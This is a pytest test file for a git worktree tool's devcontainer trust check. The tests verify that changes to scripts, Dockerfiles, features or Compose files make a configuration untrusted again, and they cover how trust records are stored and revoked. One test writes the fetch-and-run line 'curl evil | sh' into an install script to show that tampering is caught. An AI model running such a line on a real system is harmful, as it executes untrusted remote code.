"""Trust covers what the trusted file runs: the devcontainer.json's whole folder (its Dockerfile,
the scripts and local features beside it) and the Dockerfile and features it names outside it.
What it uses that no hash covers (a build context outside the folder, a file outside it that a
command runs) is named to the user."""

from __future__ import annotations

import datetime
import hashlib
import json
import locale
import os
import time
from pathlib import Path

import pytest
import tomli_w

from conftest import TEST_IMAGE
from helpers import commit_devcontainer, container_of

from git_gpuspace import trust
from git_gpuspace.errors import StateError
from git_gpuspace.installation import tomllib


def not_trusted(result) -> list[str]:
    return [line for line in result.stderr.splitlines() if "is not trusted" in line]


def test_a_branch_that_changes_only_a_script_beside_the_file_is_untrusted_again(repo, tmp_path):
    commit_devcontainer(repo, json.dumps({"image": TEST_IMAGE, "postCreateCommand": "sh .devcontainer/setup.sh"}),
                        extra={".devcontainer/setup.sh": "touch /workspace/.ran-reviewed\n"})
    first = repo.ok("add", "-b", "first", str(tmp_path / "first"), "--gpus", "none", "--trust")
    assert not_trusted(first) == [] and (tmp_path / "first" / ".ran-reviewed").exists()

    # the same folder in another worktree: trusted
    same = repo.ok("add", "-b", "same", str(tmp_path / "same"), "--gpus", "none")
    assert not_trusted(same) == [] and (tmp_path / "same" / ".ran-reviewed").exists()

    # a branch that changes only the script the command runs: the devcontainer.json is the same bytes
    repo.git("checkout", "-q", "-b", "evil")
    repo.commit({".devcontainer/setup.sh": "touch /workspace/.ran-unreviewed\n"}, "only the script")
    repo.git("checkout", "-q", "main")
    evil = repo.ok("add", str(tmp_path / "evil"), "evil", "--gpus", "none")
    [notice] = not_trusted(evil)
    assert "postCreateCommand" in notice and f"git gpuspace trust {tmp_path / 'evil'}" in notice
    assert not (tmp_path / "evil" / ".ran-unreviewed").exists()
    assert not container_of(repo, "evil").exec_run(["test", "-e", "/workspace/.ran-unreviewed"]).exit_code == 0

    # what a record covers is listed
    [listed] = repo.ok("trust", "--list").stdout.splitlines()
    assert listed.endswith(f"{tmp_path / 'first' / '.devcontainer' / 'devcontainer.json'}  covers .devcontainer/ (2 files)")


def test_a_record_of_the_file_alone_no_longer_matches(repo, tmp_path):
    """A record made before trust covered the folder is of the file's bytes: the file is
    untrusted again, with the usual notice, and --list says why."""
    commit_devcontainer(repo, json.dumps({"image": TEST_IMAGE, "postCreateCommand": "touch /workspace/.ran"}))
    path = tmp_path / "old" / ".devcontainer" / "devcontainer.json"
    store = trust.store_path()
    store.parent.mkdir(parents=True, exist_ok=True)
    store.write_text(tomli_w.dumps({"trusted": [{
        "repo": str(repo.common_dir), "sha256": hashlib.sha256((repo.path / ".devcontainer/devcontainer.json").read_bytes())
        .hexdigest(), "path": str(path), "trusted": trust._dt.datetime(2025, 1, 2, 3, 4, tzinfo=trust._dt.timezone.utc)}]}))
    old = repo.ok("add", "-b", "old", str(tmp_path / "old"), "--gpus", "none")
    assert len(not_trusted(old)) == 1 and not (tmp_path / "old" / ".ran").exists()
    assert repo.ok("trust", "--list").stdout.splitlines() == [
        f"{hashlib.sha256(path.read_bytes()).hexdigest()[:12]}  2025-01-02 03:04  {path}  covers the file alone "
        f"(an older record: it no longer matches; trust the file again)"]
    trusted = repo.ok("trust", str(tmp_path / "old")).stdout
    assert "covering .devcontainer/ (1 file)" in trusted
    assert repo.ok("trust", "--list").stdout.splitlines()[1].endswith("covers .devcontainer/ (1 file)")


def test_what_the_file_uses_outside_its_folder_is_covered_or_named(repo, tmp_path, docker_client):
    commit_devcontainer(repo, json.dumps({
        "build": {"dockerfile": "../Dockerfile", "context": ".."},
        "postCreateCommand": "bash scripts/setup.sh && ./tools/x.sh --config=tools/x.toml; echo done",
        "postStartCommand": ["python3", "/workspace/train.py"],
    }), extra={"Dockerfile": f"FROM {TEST_IMAGE}\nLABEL unique=trust-{time.time_ns()}\n",
               "scripts/setup.sh": "true\n", "tools/x.sh": "true\n", "tools/x.toml": "", "train.py": "\n"})
    added = repo.ok("add", "-b", "a", str(tmp_path / "a"), "--gpus", "none")
    assert len(not_trusted(added)) == 1
    uncovered = ("trusting devcontainer.json covers .devcontainer/ (1 file) and ../Dockerfile, not what it also uses: "
                 "the build context .. (what the Dockerfile copies from it), scripts/setup.sh (named by "
                 "postCreateCommand), tools/x.sh (named by postCreateCommand), tools/x.toml (named by postCreateCommand), "
                 "train.py (named by postStartCommand); review those too (a change to them does not make it untrusted "
                 "again)")
    assert f"git-gpuspace: {uncovered}" in added.stderr.splitlines()

    trusted = repo.ok("trust", str(tmp_path / "a")).stdout.splitlines()
    assert "covering .devcontainer/ (1 file) and ../Dockerfile" in trusted[0] and trusted[-1] == f"Note: {uncovered}"

    # the Dockerfile it names outside the folder is covered: a branch that changes it is untrusted again
    repo.git("checkout", "-q", "-b", "docker")
    repo.commit({"Dockerfile": f"FROM {TEST_IMAGE}\nLABEL unique=other-{time.time_ns()}\n"}, "only the Dockerfile")
    repo.git("checkout", "-q", "main")
    changed = repo.ok("add", str(tmp_path / "docker"), "docker", "--gpus", "none")
    assert len(not_trusted(changed)) == 1
    images = {c.attrs["Config"]["Image"] for c in repo.containers()}
    for container in repo.containers():
        container.remove(force=True)
    for image in images:
        docker_client.images.remove(image, force=True)


def test_a_file_at_the_top_of_the_worktree_is_covered_with_what_it_names(tmp_path):
    worktree = tmp_path / "wt"
    (worktree / "feature").mkdir(parents=True)
    (worktree / "feature" / "install.sh").write_text("true\n")
    (worktree / "Dockerfile").write_text("FROM x\n")
    (worktree / "setup.sh").write_text("true\n")
    path = worktree / ".devcontainer.json"
    content = json.dumps({"build": {"dockerfile": "Dockerfile"}, "features": {"./feature": {}},
                          "onCreateCommand": "sh setup.sh"}).encode()
    path.write_bytes(content)
    covered = trust.coverage(path, content, worktree, worktree)
    assert covered.describe() == ".devcontainer.json alone and Dockerfile and ./feature"
    assert covered.uncovered == ("the build context . (what the Dockerfile copies from it)",
                                 "setup.sh (named by onCreateCommand)")
    (worktree / "unrelated.txt").write_text("not the file's\n")
    assert trust.coverage(path, content, worktree, worktree).sha256 == covered.sha256
    (worktree / "feature" / "install.sh").write_text("curl evil | sh\n")
    assert trust.coverage(path, content, worktree, worktree).sha256 != covered.sha256


def test_the_folder_hash_follows_no_link_and_reads_no_fifo(tmp_path):
    worktree = tmp_path / "wt"
    folder = worktree / ".devcontainer"
    folder.mkdir(parents=True)
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (folder / "zero").symlink_to("/dev/zero")
    (folder / "lib").symlink_to(tmp_path / "a")
    os.mkfifo(folder / "fifo")
    path = folder / "devcontainer.json"
    path.write_text("{}")
    started = time.monotonic()
    covered = trust.coverage(path, b"{}", worktree, worktree)
    assert time.monotonic() - started < 5 and covered.files == 4 and covered.describe() == ".devcontainer/ (4 files)"
    (folder / "lib").unlink()
    (folder / "lib").symlink_to(tmp_path / "b")  # a linked folder pointed elsewhere is a change
    assert trust.coverage(path, b"{}", worktree, worktree).sha256 != covered.sha256


def test_a_compose_file_outside_the_folder_is_covered(tmp_path):
    """A Compose-based file runs what its Compose files say: one of them outside the folder
    (`../docker-compose.yml`) is hashed with it, so a change to it is untrusted again."""
    worktree = tmp_path / "wt"
    (worktree / ".devcontainer").mkdir(parents=True)
    path = worktree / ".devcontainer" / "devcontainer.json"
    content = json.dumps({"dockerComposeFile": ["../docker-compose.yml", "extra.yml"], "service": "app"}).encode()
    path.write_bytes(content)
    (worktree / ".devcontainer" / "extra.yml").write_text("services: {}\n")
    compose = worktree / "docker-compose.yml"
    compose.write_text("services:\n  app:\n    image: a\n")
    before = trust.coverage(path, content, worktree, worktree)
    assert before.named == ("../docker-compose.yml",)  # extra.yml is in the folder, hashed with it
    assert "what its Compose files build, mount and read" in before.not_covered()
    compose.write_text("services:\n  app:\n    image: a\n    privileged: true\n")
    assert trust.coverage(path, content, worktree, worktree).sha256 != before.sha256


def folder_file(worktree: Path, document, files: dict[str, str] | None = None) -> tuple[Path, bytes]:
    """`.devcontainer/devcontainer.json` in `worktree` with `document`, and `files` (relative to the worktree)."""
    for name, text in (files or {}).items():
        (worktree / name).parent.mkdir(parents=True, exist_ok=True)
        (worktree / name).write_text(text)
    path = worktree / ".devcontainer" / "devcontainer.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    content = document if isinstance(document, bytes) else json.dumps(document).encode()
    path.write_bytes(content)
    return path, content


def covered_in(worktree: Path, document, files: dict[str, str] | None = None, repo_root: Path | None = None):
    path, content = folder_file(worktree, document, files)
    return trust.coverage(path, content, worktree, repo_root or worktree)


def test_what_a_file_in_its_folder_covers_is_described_exactly(tmp_path):
    worktree = tmp_path / "wt"
    covered = covered_in(worktree, {"build": {"dockerfile": "Dockerfile", "context": "."}},
                         {".devcontainer/Dockerfile": "FROM x\n", ".devcontainer/lib/setup.sh": "true\n"})
    assert covered == trust.Coverage(worktree / ".devcontainer" / "devcontainer.json", covered.sha256, ".devcontainer",
                                     3, (), ())
    assert covered.describe() == ".devcontainer/ (3 files)" and covered.not_covered() is None
    named = worktree / ".devcontainer" / "gpu" / "devcontainer.json"
    named.parent.mkdir()
    named.write_text("{}")
    one = trust.coverage(named, b"{}", worktree, worktree)
    assert (one.folder, one.files, one.describe()) == (".devcontainer/gpu", 1, ".devcontainer/gpu/ (1 file)")


def test_a_file_at_the_top_of_the_worktree_counts_as_one_file(tmp_path):
    worktree = tmp_path / "wt"
    worktree.mkdir()
    path = worktree / ".devcontainer.json"
    path.write_text("{}")
    covered = trust.coverage(path, b"{}", worktree, worktree)
    assert (covered.folder, covered.files, covered.named, covered.uncovered) == (None, 1, (), ())
    assert covered.describe() == ".devcontainer.json alone"


def test_a_record_made_now_keeps_matching_the_same_content(tmp_path):
    """The hash is what the trust store keeps: the same layout hashes to the same value in every
    version that reads the store, so a record made now is not silently untrusted later."""
    worktree = tmp_path / "wt"
    worktree.mkdir()
    (worktree / "Dockerfile").write_text("FROM x\n")
    path = worktree / ".devcontainer.json"
    content = b'{"build": {"dockerfile": "Dockerfile", "context": "."}}'
    path.write_bytes(content)
    covered = trust.coverage(path, content, worktree, worktree)
    assert covered.named == ("Dockerfile",)
    assert covered.sha256 == "92f8e84d7182903f7aa0bf7d5375391a64b77f9b40c1575a121df62888c8fd0e"


def test_the_store_is_in_the_users_config_dir():
    assert trust.store_path() == Path(os.environ["XDG_CONFIG_HOME"]) / "git-gpuspace" / "trust.toml"


def test_what_it_uses_and_no_hash_covers_is_named_in_one_line(tmp_path):
    worktree = tmp_path / "wt"
    covered = covered_in(worktree, {"build": {"dockerfile": "Dockerfile", "context": ".."},
                                    "postCreateCommand": "sh tools/a.sh && sh tools/b.sh"},
                         {".devcontainer/Dockerfile": "FROM x\n", "tools/a.sh": "true\n", "tools/b.sh": "true\n"})
    assert covered.not_covered() == (
        "trusting devcontainer.json covers .devcontainer/ (2 files), not what it also uses: the build context .. "
        "(what the Dockerfile copies from it), tools/a.sh (named by postCreateCommand), tools/b.sh (named by "
        "postCreateCommand); review those too (a change to them does not make it untrusted again)")


def test_a_file_that_is_not_an_object_covers_its_bytes(tmp_path):
    worktree = tmp_path / "wt"
    for content in (b"[1, 2]", b'"text"', b"{not json", b"\xff\xfe"):
        covered = covered_in(worktree, content)
        assert (covered.named, covered.uncovered, covered.describe()) == ((), (), ".devcontainer/ (1 file)")


def test_what_it_names_outside_the_folder_is_covered_inside_the_repository_only(tmp_path):
    """Inside the folder: hashed with it. Elsewhere in the worktree or the repository's main
    worktree: named and hashed. Outside the repository, or missing: not (load refuses it)."""
    main, worktree = tmp_path / "main", tmp_path / "linked"
    (main / "docker").mkdir(parents=True)
    (main / "docker" / "Dockerfile").write_text("FROM x\n")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "Dockerfile").write_text("FROM x\n")
    features = {"./in-folder": {}, "../feature": {}, "../../main/docker": {}, "../../elsewhere": {}, "../missing": {}}
    files = {".devcontainer/in-folder/install.sh": "true\n", "feature/install.sh": "true\n"}
    covered = covered_in(worktree, {"build": {"dockerfile": "Dockerfile"}, "features": features}, files, main)
    assert covered.named == ("../feature", "../../main/docker")
    assert covered_in(worktree, {"build": {"dockerfile": "../../main/docker/Dockerfile"}}, files, main).named == \
        ("../../main/docker/Dockerfile",)
    for outside in ("../../elsewhere/Dockerfile", "../missing/Dockerfile"):
        assert covered_in(worktree, {"build": {"dockerfile": outside}}, files, main).named == ()
    before = covered_in(worktree, {"features": features}, files, main)
    (main / "docker" / "Dockerfile").write_text("FROM y\n")
    assert covered_in(worktree, {"features": features}, files, main).sha256 != before.sha256


def test_a_file_at_the_top_of_the_worktree_names_its_default_dockerfile(tmp_path):
    worktree = tmp_path / "wt"
    worktree.mkdir()
    (worktree / "Dockerfile").write_text("FROM x\n")
    path = worktree / ".devcontainer.json"
    for document in ({"build": {}}, {"build": {"context": "."}}, {"build": "not an object", "dockerFile": ""}):
        content = json.dumps(document).encode()
        path.write_bytes(content)
        covered = trust.coverage(path, content, worktree, worktree)
        assert (covered.named, covered.uncovered) == (("Dockerfile",), ("the build context . (what the Dockerfile "
                                                                         "copies from it)",)), document


def test_the_build_context_is_named_unless_it_is_inside_the_folder(tmp_path):
    worktree = tmp_path / "wt"
    files = {".devcontainer/Dockerfile": "FROM x\n", "Dockerfile": "FROM x\n"}

    def uncovered(document):
        return covered_in(worktree, document, files).uncovered

    context = "the build context {} (what the Dockerfile copies from it)".format
    assert uncovered({"image": "x"}) == ()
    assert uncovered({"build": {"dockerfile": "Dockerfile", "context": "."}}) == ()
    assert uncovered({"build": {"dockerfile": "Dockerfile", "context": "lib"}}) == ()
    assert uncovered({"build": {"dockerfile": "Dockerfile"}}) == ()
    assert uncovered({"build": {"dockerfile": "Dockerfile", "context": ".."}}) == (context(".."),)
    assert uncovered({"build": {"dockerfile": "Dockerfile", "context": "../.."}}) == (context("../.."),)
    assert uncovered({"build": {"dockerfile": "Dockerfile", "context": "bad\u0000name"}}) == (context("bad\u0000name"),)
    # the older spelling: `dockerFile` and `context` at the top
    assert uncovered({"dockerFile": "Dockerfile", "context": ".."}) == (context(".."),)
    assert uncovered({"dockerFile": "Dockerfile"}) == ()
    # a top-level `context` belongs to `dockerFile` only
    assert uncovered({"build": {"dockerfile": "Dockerfile"}, "context": ".."}) == ()


def test_the_dockerfile_it_names_outside_the_folder_is_covered_in_either_spelling(tmp_path):
    worktree = tmp_path / "wt"
    files = {"Dockerfile": "FROM x\n", ".devcontainer/Dockerfile": "FROM x\n"}
    for document in ({"build": {"dockerfile": "../Dockerfile"}}, {"dockerFile": "../Dockerfile"},
                     {"build": {"dockerfile": "../Dockerfile"}, "dockerFile": "Dockerfile"},
                     {"build": {"dockerfile": " "}, "dockerFile": "../Dockerfile"}):
        assert covered_in(worktree, document, files).named == ("../Dockerfile",), document
    assert covered_in(worktree, {"build": {"dockerfile": "../../${localWorkspaceFolderBasename}/Dockerfile"}},
                      files).named == ("../../wt/Dockerfile",)
    assert covered_in(worktree, {"build": {"dockerfile": "${localWorkspaceFolder}/Dockerfile"}}, files).named == \
        (f"{worktree}/Dockerfile",)
    assert covered_in(worktree, {"dockerComposeFile": "${localWorkspaceFolder}/compose.yml"},
                      {"compose.yml": "services: {}\n"}).named == (f"{worktree}/compose.yml",)


def test_a_compose_based_file_names_what_its_compose_files_use(tmp_path):
    worktree = tmp_path / "wt"
    covered = covered_in(worktree, {"dockerComposeFile": "compose.yml", "service": "app"},
                         {".devcontainer/compose.yml": "services: {}\n"})
    assert covered.uncovered == ("what its Compose files build, mount and read (build contexts, env files, volumes)",)
    assert covered_in(worktree, {"dockerComposeFile": [" ", 3], "service": "app"}).uncovered == ()


def files_run(tmp_path, document, files) -> tuple[str, ...]:
    """What trusting the file does not cover among the worktree's files its commands name."""
    return covered_in(tmp_path / "wt", document, files).uncovered


def test_a_file_of_the_worktree_that_a_command_names_is_named_as_uncovered(tmp_path):
    files = {"tools/x.sh": "true\n", "tools/x.toml": "", "train.py": "\n", "config/mode=train.env": "",
             "scripts/train+eval.sh": "true\n", ".devcontainer/setup.sh": "true\n", "tools/${MODE}.sh": "",
             "../outside.sh": "true\n"}
    assert files_run(tmp_path, {
        "onCreateCommand": "/bin/sh tools/x.sh --config=tools/x.toml; sh .devcontainer/setup.sh",
        "updateContentCommand": ["python3", "/workspace/train.py", "--env=config/mode=train.env", 7],
        "postCreateCommand": {"a": "bash 'scripts/train+eval.sh';", "b": ["sh", "/workspaces/wt/tools/x.sh"]},
        "postStartCommand": "sh ../outside.sh tools/${MODE}.sh /etc/passwd '' --flag= scripts/train+eval.sh config/mode=train.env",
        "postAttachCommand": "sh tools/x.sh 'unbalanced",
    }, files) == ("tools/x.sh (named by onCreateCommand)", "tools/x.toml (named by onCreateCommand)",
                  "train.py (named by updateContentCommand)", "config/mode=train.env (named by updateContentCommand)",
                  "scripts/train+eval.sh (named by postCreateCommand)", "tools/x.sh (named by postCreateCommand)",
                  "scripts/train+eval.sh (named by postStartCommand)", "config/mode=train.env (named by postStartCommand)",
                  "tools/x.sh (named by postAttachCommand)")


def test_a_command_names_files_under_the_workspace_folder_it_moves_to(tmp_path):
    files = {"tools/x.sh": "true\n"}
    assert files_run(tmp_path, {"workspaceFolder": "/src/APEX/", "postCreateCommand": "sh /src/APEX/tools/x.sh"},
                     files) == ("tools/x.sh (named by postCreateCommand)",)
    assert files_run(tmp_path, {"workspaceFolder": 3, "postCreateCommand": "sh /workspace/tools/x.sh"}, files) == \
        ("tools/x.sh (named by postCreateCommand)",)


def test_a_host_path_or_a_name_no_file_has_is_not_named(tmp_path):
    """The container sees the worktree at its workspace folder: the host's path of a file, a
    word with a variable the container expands, or a name that is no file are not what runs."""
    worktree = tmp_path / "wt"
    files = {"tools/x.sh": "true\n", "tools/dir/a": ""}
    assert files_run(tmp_path, {"postCreateCommand": f"sh {worktree}/tools/x.sh ${{HOME}}/tools/x.sh tools/dir echo "
                                                     "bad\u0000name"}, files) == ()
    assert files_run(tmp_path, {"postCreateCommand": "sh ../wt/tools/dir/../../tools/x.sh"}, files) == \
        ("tools/x.sh (named by postCreateCommand)",)


def coverage_of(tmp_path, name: str, document: dict) -> trust.Coverage:
    return covered_in(tmp_path / name, document)


def stored() -> dict:
    return tomllib.loads(trust.store_path().read_text(encoding="utf-8"))


def test_trust_is_granted_once_per_repository_and_recorded_in_the_users_config_dir(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "fresh" / "config"))  # not there yet
    covered = coverage_of(tmp_path, "wt", {"image": "x"})
    repo_a, repo_b = tmp_path / "a" / ".git", tmp_path / "b" / ".git"
    assert trust.records() == [] and not trust.is_trusted(repo_a, covered)
    before = trust._dt.datetime.now(trust._dt.timezone.utc).replace(microsecond=0)
    assert trust.grant(repo_a, covered) is True
    assert trust.grant(repo_a, covered) is False  # already trusted: not recorded twice
    [record] = trust.records()
    assert record == trust.Record(str(repo_a), covered.sha256, str(covered.path), record.trusted,
                                  ".devcontainer/ (1 file)")
    assert record.trusted.tzinfo is not None and record.trusted.utcoffset() == trust._dt.timedelta(0)
    assert record.trusted.microsecond == 0 and before <= record.trusted <= trust._dt.datetime.now(trust._dt.timezone.utc)
    assert stored() == {"trusted": [{"repo": str(repo_a), "sha256": covered.sha256, "path": str(covered.path),
                                     "trusted": record.trusted, "covers": ".devcontainer/ (1 file)"}]}
    assert trust.is_trusted(repo_a, covered) and not trust.is_trusted(repo_b, covered)
    other = coverage_of(tmp_path, "other", {"image": "y"})
    assert not trust.is_trusted(repo_a, other)
    assert trust.grant(repo_b, covered) is True  # the same content in another repository: a record of its own
    assert [(r.repo, r.sha256) for r in trust.records()] == [(str(repo_a), covered.sha256), (str(repo_b), covered.sha256)]


def write_store(*entries: dict) -> None:
    store = trust.store_path()
    store.parent.mkdir(parents=True, exist_ok=True)
    store.write_text(tomli_w.dumps({"trusted": list(entries)}))


WHEN = datetime.datetime(2025, 1, 2, 3, 4, tzinfo=datetime.timezone.utc)


def test_revoke_forgets_what_the_file_covers_now_and_what_was_trusted_at_its_path_in_this_repository(tmp_path):
    covered = coverage_of(tmp_path, "wt", {"image": "x"})
    path = str(covered.path)
    entries = [
        {"repo": "/r/a", "sha256": covered.sha256, "path": "/elsewhere/devcontainer.json", "trusted": WHEN, "covers": "c"},
        {"repo": "/r/a", "sha256": "older", "path": path, "trusted": WHEN},  # an older record: no covers
        {"repo": "/r/b", "sha256": covered.sha256, "path": path, "trusted": WHEN, "covers": "c"},
        {"repo": "/r/a", "sha256": "other", "path": "/other/devcontainer.json", "trusted": WHEN},
    ]
    write_store(*entries)
    assert trust.revoke(Path("/r/a"), covered.path, covered) == 2
    assert stored() == {"trusted": [entries[2], entries[3]]}  # the older record is kept as it was written
    assert trust.revoke(Path("/r/a"), covered.path, covered) == 0
    assert stored() == {"trusted": [entries[2], entries[3]]}

    write_store(*entries)  # a file that no longer parses: only what was trusted at its path
    assert trust.revoke(Path("/r/a"), covered.path, None) == 1
    assert stored() == {"trusted": [entries[0], entries[2], entries[3]]}


def test_revoking_what_was_never_trusted_writes_nothing(tmp_path):
    covered = coverage_of(tmp_path, "wt", {"image": "x"})
    assert trust.revoke(tmp_path / ".git", covered.path, covered) == 0
    assert not trust.store_path().exists()


def test_an_older_record_of_the_file_alone_reads_as_covering_nothing_named():
    write_store({"repo": "/r/a", "sha256": "abc", "path": "/p/devcontainer.json", "trusted": WHEN})
    assert trust.records() == [trust.Record("/r/a", "abc", "/p/devcontainer.json", WHEN, "")]


def test_a_store_without_records_has_none():
    store = trust.store_path()
    store.parent.mkdir(parents=True, exist_ok=True)
    store.write_text("# nothing trusted yet\n")
    assert trust.records() == []


def test_a_store_that_cannot_be_read_is_refused_with_what_to_do():
    store = trust.store_path()
    store.parent.mkdir(parents=True, exist_ok=True)
    store.write_text("[[trusted]\n")
    with pytest.raises(StateError) as refused:
        trust.records()
    assert str(refused.value).startswith(f"cannot read {store}: ") and len(str(refused.value)) > len(f"cannot read {store}: ")
    assert refused.value.hint == "fix or remove the file"
    store.write_bytes(b"\xff\xfe")
    with pytest.raises(StateError, match="^cannot read ") as refused:
        trust.records()
    assert refused.value.hint == "fix or remove the file"
    write_store({"repo": "/r/a", "sha256": "abc", "path": "/p"})
    with pytest.raises(StateError) as refused:
        trust.records()
    assert (str(refused.value), refused.value.hint) == (
        f"{store}: a [[trusted]] entry lacks repo, sha256, path or trusted", "fix or remove the file")
    store.write_text('trusted = ["not a table"]\n')
    with pytest.raises(StateError, match="entry lacks repo"):
        trust.records()


@pytest.fixture
def ascii_locale():
    """The process's locale encoding is ASCII, as on a host whose locale is not UTF-8."""
    before = locale.setlocale(locale.LC_CTYPE)
    locale.setlocale(locale.LC_CTYPE, "C")
    try:
        if locale.getencoding().lower().replace("-", "") == "utf8":
            pytest.skip("the C locale's encoding is UTF-8 here (UTF-8 mode)")
        yield
    finally:
        locale.setlocale(locale.LC_CTYPE, before)


def test_the_store_reads_the_same_whatever_the_locales_encoding(tmp_path, ascii_locale):
    covered = coverage_of(tmp_path, "données", {"image": "x"})
    assert trust.grant(tmp_path / "dépôt" / ".git", covered)
    assert [(r.repo, r.path) for r in trust.records()] == [(str(tmp_path / "dépôt" / ".git"), str(covered.path))]
    assert trust.is_trusted(tmp_path / "dépôt" / ".git", covered)
